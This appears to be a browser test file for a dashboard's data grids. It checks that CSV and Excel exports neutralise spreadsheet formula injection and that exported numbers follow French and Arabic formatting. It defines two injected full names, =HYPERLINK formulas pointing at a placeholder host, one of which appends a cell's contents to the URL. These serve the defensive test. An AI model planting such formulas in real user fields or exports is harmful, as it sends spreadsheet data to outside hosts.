"""The grids in a real browser: their CSV carries no formula, their numbers read as the cards'.

Issue 20.2: a full name typed as ``=HYPERLINK(...)`` reached the grid's CSV as a live formula.
Issue 19.12: grids wrote 1234.5 with a dot (and no grouping) where the cards write 1 234,5 in
French and 1.234,5 in Arabic.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import update
from sqlalchemy.engine import Engine

from dashboard.db.engine import session_scope
from dashboard.db.models import EnvelopeLine
from tests.browser.conftest import create_account, sign_in

pytestmark = pytest.mark.browser

HOSTILE = '=HYPERLINK("http://exemple.test/vol?d="&A1,"Cliquez ici")'
# A formula after the other list separator: a French file (";") opened on an English Windows.
SPLIT = 'Rapport,=HYPERLINK("http://exemple.test/vol","Cliquez ici")'
TIMEOUT = 20_000


def _download(page: Page, selector: str) -> bytes:
    """Click an export button and return the file the browser downloads."""
    with page.expect_download(timeout=60_000) as info:
        page.click(selector)
    return Path(info.value.path()).read_bytes()


def test_the_grid_csv_and_excel_write_a_hostile_name_as_text(
    page: Page, live_server: str, engine: Engine
) -> None:
    create_account(engine, "admin-csv", "admin", full_name="Administratrice")
    create_account(engine, "piege", "viewer", full_name=HOSTILE)
    create_account(engine, "piege2", "viewer", full_name=SPLIT)
    sign_in(page, live_server, "admin-csv", next_path="/admin/users")
    grid = page.locator("#admin-users-grid")
    expect(grid.locator(".ag-row").first).to_be_visible(timeout=TIMEOUT)

    content = _download(page, "button.cti-export-csv").decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
    trap = next(row for row in rows if "piege" in row)
    assert "'" + HOSTILE in trap  # an apostrophe first: a spreadsheet shows it as text
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    # Opened where the list separator is "," (English Windows), no piece is a formula either.
    split = list(csv.reader(io.StringIO(content), delimiter=","))
    assert not any(cell.startswith(("=", "+", "@")) for row in split for cell in row)
    assert any("Rapport,'=HYPERLINK" in cell for row in rows for cell in row)

    book = openpyxl.load_workbook(io.BytesIO(_download(page, "button.cti-export-xlsx")))
    sheet = book.active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.mark.parametrize(
    ("lang", "amount", "year"), [("ar", "1.234,5", "2022"), ("fr", "1\u00a0234,5", "2022")]
)
def test_a_grid_writes_numbers_as_the_cards_do(
    page: Page, live_server: str, engine: Engine, lang: str, amount: str, year: str
) -> None:
    with session_scope(engine) as session:
        session.exec(update(EnvelopeLine).values(amount_mdh=1234.5))  # type: ignore[call-overload]
    create_account(engine, f"analyste-{lang}", "analyst")
    sign_in(page, live_server, f"analyste-{lang}", next_path=f"/budget/enveloppes?lang={lang}")
    grid = page.locator("#envelopes-grid")
    first = grid.locator(".ag-center-cols-container .ag-row").first
    expect(first).to_be_visible(timeout=TIMEOUT)
    expect(first.locator("[col-id=amount]")).to_have_text(amount)
    expect(first.locator("[col-id=year]")).to_have_text(year)  # a year is not grouped

    content = _download(page, "button.cti-export-csv").decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
    assert rows[1][-1] == "1234,5"  # a number a French or Arabic spreadsheet reads as one
